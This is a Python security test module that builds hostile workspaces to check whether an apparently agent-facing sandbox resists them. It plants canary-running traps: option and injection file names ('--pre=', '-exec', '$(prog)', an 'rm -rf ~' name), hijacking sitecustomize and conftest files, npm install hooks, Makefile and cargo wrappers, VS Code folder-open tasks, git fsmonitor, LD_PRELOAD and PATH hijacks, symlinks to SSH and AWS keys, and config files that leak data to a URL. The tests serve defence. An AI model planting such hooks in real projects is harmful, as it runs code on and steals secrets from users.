"""Workspaces that make other programs run or send something: file names, links, start-up files, build files."""

import shutil
import sys
from pathlib import Path

from tests.security.hostile_workspace import INJECTED_TEXT, SECRET, Ground, trap


@trap()
def links_to_secrets(ground: Ground) -> None:
    ground.link("key", ground.home / ".ssh" / "id_ed25519")
    ground.link("notes.txt", ground.home / ".aws" / "credentials")
    ground.link("home", ground.home)
    ground.link("root", ground.home.parent.parent)
    ground.link("loop/loop", ground.workspace / "loop")
    ground.link("data", ground.own)


def within_reach(ground: Ground) -> dict[str, str]:
    """The canary is a program on the user's search path, so that a bare name suffices."""
    tools = Path(sys.executable).parent
    return {"PATH": f"{ground.canary.parent}:{tools}:{ground.environ['PATH']}", "LC_ALL": "C"}


@trap(control=("sh", "-c", "rg x *"), commands=("rg x *", "rg --files *", "git grep x *"), environ=within_reach)
def a_name_that_is_an_option_of_ripgrep(ground: Ground) -> None:
    ground.put("a.txt", "x\n")
    (ground.workspace / f"--pre={ground.canary.name}").write_text("x\n")


@trap(
    control=("sh", "-c", "find *"),
    commands=("find *", "sort *", "ls *", "cat *", "grep x *", "wc *", "git diff *"),
    environ=within_reach,
)
def names_that_are_options_of_find(ground: Ground) -> None:
    shutil.copy2(ground.canary, ground.canary.with_name("0run"))
    for name in ("%a", "-exec", "0run", ";"):  # in the order in which a shell lists them
        (ground.workspace / name).write_text("x\n")


@trap(commands=("ls", "cat *", "git status"), environ=within_reach)
def names_with_escapes(ground: Ground) -> None:
    ground.repository()
    program = ground.canary.name
    odd = [f"$({program})", f"`{program}`", f";{program};", "'; rm -rf ~; '", "&& reboot", INJECTED_TEXT]
    odd += ["a\nb", "\x1b]0;x\x07", "\x1b[2J", "\u202egnp.exe", "\udcff"]
    for name in odd:
        (ground.workspace / name).write_text("x\n")


@trap(control=("rg", "x"), environ=lambda ground: {"RIPGREP_CONFIG_PATH": ".ripgreprc"}, commands=("rg x",))
def a_configuration_for_ripgrep(ground: Ground) -> None:
    ground.put(".ripgreprc", f"--pre={ground.canary}\n")
    ground.put("a.txt", "x\n")


@trap(
    control=("python3", "-c", "import json"),
    commands=("python3 --version", "python3 -c 'import json'", "pip list", "python3 -m json.tool a.json"),
)
def modules_in_the_place_of_python_s(ground: Ground) -> None:
    code = f"import os; os.system('{ground.canary} ' + __name__)\n"
    for name in ("sitecustomize", "usercustomize", "json", "msgspec", "asyncio", "sqlite3", "aiohttp", "encodings"):
        ground.put(f"{name}.py", code)
    ground.put("outrider/__init__.py", code)
    ground.put("evil.pth", f"import os; os.system('{ground.canary}')\n")
    ground.put("pyvenv.cfg", "home = .\n")


@trap(
    control=("python3", "-m", "pytest", "-q"),
    commands=("python3 -m pytest", "pytest --version", "pytest --collect-only"),
)
def tests_and_plugins(ground: Ground) -> None:
    ground.put("conftest.py", f"import os; os.system('{ground.canary}')\n")
    ground.put("evil_plugin.py", f"import os; os.system('{ground.canary}')\n")
    ground.put("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-p evil_plugin'\npythonpath = ['.']\n")
    ground.put("tox.ini", f"[testenv]\ncommands = {ground.canary}\n")
    ground.put("noxfile.py", f"import os; os.system('{ground.canary}')\n")


@trap(commands=("npm test", "npm ls", "yarn --version", "node --version", "npx tsc --version"))
def packages_of_node(ground: Ground) -> None:
    scripts = dict.fromkeys(("preinstall", "install", "postinstall", "prepare", "test", "start"), str(ground.canary))
    ground.put_json(
        "package.json", {"name": "x", "version": "1.0.0", "scripts": scripts, "packageManager": "yarn@9.9.9"}
    )
    ground.put(".npmrc", f"script-shell={ground.canary}\nnode-options=--require=./evil.js\nregistry={ground.url}\n")
    ground.put(".yarnrc", 'yarn-path "./evil.js"\n')
    ground.put(".yarnrc.yml", "yarnPath: ./evil.js\n")
    ground.put(".pnpmfile.cjs", f"require('child_process').execSync('{ground.canary}')\n")
    ground.put("evil.js", f"require('child_process').execSync('{ground.canary}')\n")
    ground.put("node_modules/.bin/tsc", runs=True)


@trap(control=("make", "-n"), commands=("make -n", "make --version", "make", "just --list", "cmake ."))
def build_files(ground: Ground) -> None:
    ground.put("Makefile", f"X := $(shell {ground.canary})\nall:\n\t{ground.canary}\n")
    ground.put("justfile", f"x := `{ground.canary}`\ndefault:\n  {ground.canary}\n")
    ground.put("CMakeLists.txt", f"execute_process(COMMAND {ground.canary})\n")
    ground.put("build.gradle", f'"{ground.canary}".execute()\n')
    ground.put("setup.py", f"import os; os.system('{ground.canary}')\n")


@trap(commands=("cargo --version", "rustc --version", "cargo metadata", "go env", "go version", "ruby --version"))
def toolchains(ground: Ground) -> None:
    ground.put("Cargo.toml", '[package]\nname = "x"\nversion = "0.1.0"\nbuild = "build.rs"\n')
    ground.put(".cargo/config.toml", f'[build]\nrustc-wrapper = "{ground.canary}"\n[alias]\nb = "run"\n')
    ground.put("rust-toolchain.toml", '[toolchain]\npath = "./toolchain"\n')
    for name in ("cargo", "rustc"):
        ground.put(f"toolchain/bin/{name}", runs=True)
    ground.put("go.mod", "module x\ngo 1.99\ntoolchain go9.9.9\n")
    ground.put(".ruby-version", "9.9.9\n")
    ground.put("Gemfile", f"system('{ground.canary}')\n")


@trap()
def settings_of_editors(ground: Ground) -> None:
    task = {"label": "x", "type": "shell", "command": str(ground.canary), "runOptions": {"runOn": "folderOpen"}}
    ground.put_json(".vscode/tasks.json", {"version": "2.0.0", "tasks": [task]})
    ground.put_json(
        ".vscode/settings.json", {"python.defaultInterpreterPath": str(ground.canary), "git.path": str(ground.canary)}
    )
    ground.put_json(".devcontainer/devcontainer.json", {"initializeCommand": str(ground.canary)})
    ground.put(".exrc", f":!{ground.canary}\n")
    ground.put(".nvimrc", f":!{ground.canary}\n")
    ground.put(".dir-locals.el", f'((nil . ((eval . (shell-command "{ground.canary}")))))\n')
    ground.put(".idea/workspace.xml", f"<x>{ground.canary}</x>")
    ground.put(".pre-commit-config.yaml", f"repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: {ground.canary}\n")
    ground.put("lefthook.yml", f"pre-commit:\n  commands:\n    x:\n      run: {ground.canary}\n")


@trap(
    control=("bash", "-c", "true"),
    environ=lambda ground: {"BASH_ENV": "./.bashrc", "ENV": "./.profile", "ZDOTDIR": ".", "PYTHONSTARTUP": "x.py"},
)
def files_that_start_shells(ground: Ground) -> None:
    for name in (".bashrc", ".bash_profile", ".profile", ".zshenv", ".zshrc", ".inputrc", "x.py"):
        ground.put(name, f"{ground.canary} {name}\n")


@trap(
    control=("git", "--version"),
    environ=lambda ground: {"PATH": f".:{ground.workspace}/bin::{ground.environ['PATH']}"},
    commands=("ls", "git status", "cat file.txt", "rg x"),
)
def programs_in_the_place_of_the_system_s(ground: Ground) -> None:
    for name in ("git", "rg", "bash", "sh", "ls", "cat", "env", "bwrap", "chrt", "python3", "node", "dircolors"):
        ground.put(name, runs=True)
        ground.put(f"bin/{name}", runs=True)
    ground.put("file.txt", "x\n")


@trap(
    control=("git", "status"),
    environ=lambda ground: {"GIT_CONFIG_GLOBAL": "gitconfig", "GIT_EXTERNAL_DIFF": "./evil", "LD_PRELOAD": "./evil.so"},
)
def variables_that_point_into_the_workspace(ground: Ground) -> None:
    ground.repository()
    ground.put("gitconfig", f"[core]\n\tfsmonitor = {ground.canary}\n\tpager = {ground.canary}\n")
    ground.put("evil", runs=True)


@trap(commands=("cat secret.txt", "curl http://example.invalid", "wget -q http://example.invalid"))
def files_of_downloaders(ground: Ground) -> None:
    ground.put(".curlrc", f'url = "{ground.url}/curl"\n')
    ground.put(".wgetrc", f"http_proxy = {ground.url}\nuse_proxy = on\n")
    ground.put("pip.conf", f"[global]\nindex-url = {ground.url}\n")
    ground.put("index.html", f'<img src="{ground.url}/pixel"><script src="{ground.url}/x.js"></script>')
    ground.put("notes.md", f"![]({ground.url}/pixel.png?{SECRET[:3]})")
    ground.put("picture.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{ground.url}/p"/></svg>')
